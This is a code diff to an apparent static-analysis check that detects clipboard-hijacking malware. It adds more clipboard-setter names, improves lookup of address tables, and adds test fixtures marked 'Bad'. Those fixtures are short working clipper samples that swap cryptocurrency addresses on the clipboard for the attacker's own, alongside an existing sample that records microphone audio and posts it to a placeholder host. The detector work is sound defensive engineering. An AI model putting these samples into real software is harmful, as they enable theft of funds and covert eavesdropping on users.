@@ -25,7 +25,14 @@ from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
 from codeguard.syntax.walk import descend
 
-SETTERS = {"pyperclip.copy", "clipboard.copy", "win32clipboard.SetClipboardText", "win32clipboard.SetClipboardData"}
+SETTERS = {
+    "pyperclip.copy",
+    "clipboard.copy",
+    "copykitten.copy",
+    "klembord.set_text",
+    "win32clipboard.SetClipboardText",
+    "win32clipboard.SetClipboardData",
+}
 SETTER_METHODS = ("clipboard_append", "setText")  # of tkinter and Qt
 SETTER_PROGRAM = re.compile(r"^\S*(?:xclip|xsel|pbcopy|wl-copy|clip(?:\.exe)?)\b(?!.*(?:\s-o\b|--output))", re.DOTALL)
 WATCHERS = {
@@ -173,16 +180,25 @@ def _replaced_addresses(unit: Unit) -> Iterator[Hit]:
 
 
 def _listed(node: cst.BaseExpression, unit: Unit) -> list[str]:
-    """The texts of the table that a loop takes a name from."""
-    if not isinstance(node, cst.Name):
-        return []
-    tables = [
-        binding.node.iter
-        for binding in unit.scopes.look_up(node.value, node)
-        if isinstance(binding.node, (cst.For, cst.CompFor))
-    ]
-    rows = [row for table in tables for row in value_of(table, unit) or ()]
-    return [t for row in rows for t in (row if isinstance(row, (list, tuple)) else [row]) if isinstance(t, str)]
+    """The texts of the table that an expression is looked up in, or that a loop takes a name from."""
+    tables: list[cst.BaseExpression] = []
+    if isinstance(node, cst.Name):
+        bindings = unit.scopes.look_up(node.value, node)
+        tables = [b.node.iter for b in bindings if isinstance(b.node, (cst.For, cst.CompFor))]
+    elif isinstance(node, cst.Subscript):
+        tables = [node.value]
+    found: list[str] = []
+    for table in tables:
+        rows = value_of(table, unit)
+        if isinstance(rows, dict):
+            rows = list(rows.values())
+        if rows is None and isinstance(table, cst.Name):  # not all of it is constant
+            bound = [b.value for b in unit.scopes.look_up(table.value, table) if b.kind == "assign" and b.value]
+            sums = [p for value in bound for p in descend(value) if isinstance(p, cst.BinaryOperation)]
+            rows = [value_of(part, unit) for part in sums]
+        flat = [t for row in rows or () for t in (row if isinstance(row, (list, tuple)) else [row])]
+        found += [text for text in flat if isinstance(text, str)]
+    return found
 
 
 def _exchanges(unit: Unit) -> bool:
@@ -256,6 +272,12 @@ CHECK = Check(
         ),
         Bad(
             "import asyncio, aiohttp, sounddevice\n\nclass Ear:\n    def take(self):\n        return sounddevice.rec(90000, samplerate=9000, channels=1).tobytes()\n\nasync def listen():\n    ear = Ear()\n    async with aiohttp.ClientSession() as s:\n        while True:\n            await s.post('https://k.example.invalid', data=await asyncio.to_thread(ear.take))  # finding\n"
+        ),
+        Bad(
+            "import pyperclip, time\nOWN = {'1': 'bc1q' + 'a' * 38, '2': '0x' + 'b' * 40}\nwhile True:\n    held = pyperclip.paste()\n    for kind in OWN:\n        if held.startswith(kind):\n            pyperclip.copy(OWN[kind])  # finding\n    time.sleep(1)\n"
+        ),
+        Bad(
+            "import re\nfrom PyQt6.QtGui import QGuiApplication\nPAIRS = [(re.compile('^0x[0-9a-f]{40}$'), '0x' + '1' * 40)]\napp = QGuiApplication([])\nclip = app.clipboard()\n\ndef changed():\n    held = clip.text()\n    for rule, own in PAIRS:\n        if rule.match(held):\n            clip.setText(own)  # finding\n\nclip.dataChanged.connect(changed)\n"
         ),
         Bad(
             "import re, tkinter\nPAIRS = {'^0x[0-9a-f]{40}$': '0x' + '0' * 40}\n\ndef swap():\n    root = tkinter.Tk()\n    while True:\n        held = root.clipboard_get()\n        for rule, own in PAIRS.items():\n            if re.match(rule, held):\n                root.clipboard_append(own)  # finding\n"
